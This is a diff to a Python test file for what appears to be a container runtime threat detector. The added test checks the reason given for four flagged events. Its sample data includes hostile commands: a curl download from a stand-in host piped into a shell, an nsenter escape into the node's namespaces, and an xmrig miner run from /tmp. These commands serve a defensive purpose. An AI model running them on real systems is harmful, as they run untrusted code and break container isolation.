@@ -41,3 +41,14 @@ def test_entering_the_nodes_namespaces_or_root_is_a_container_escape() -> None:
     # nsenter into another process's namespaces (a debugging sidecar's habit) is not an escape.
     assert judge(event("process_exec", binary="/usr/bin/nsenter", args="-t 4242 -n ip addr")) is None
     assert judge(event("process_exec", binary="/usr/sbin/chroot", args="/srv/jail /bin/true")) is None
+
+
+def test_each_finding_says_why_in_a_phrase_that_follows_the_event() -> None:
+    whys = [judge(e) for e in (event("network_flow", dst_ip="198.51.100.23", dst_port=3333),
+                               event("process_exec", binary="/tmp/xmrig"),
+                               event("process_exec", binary="/bin/sh", args='-c "curl -s http://x/p | sh"'),
+                               event("process_exec", binary="/usr/bin/nsenter", args="-t 1 -m sh"))]  # fmt: skip
+    assert [w.why if w else None for w in whys] == [
+        "a mining-pool port", "a program in world-writable /tmp", "a download piped into a shell",
+        "a container escape into the node",
+    ]  # fmt: skip
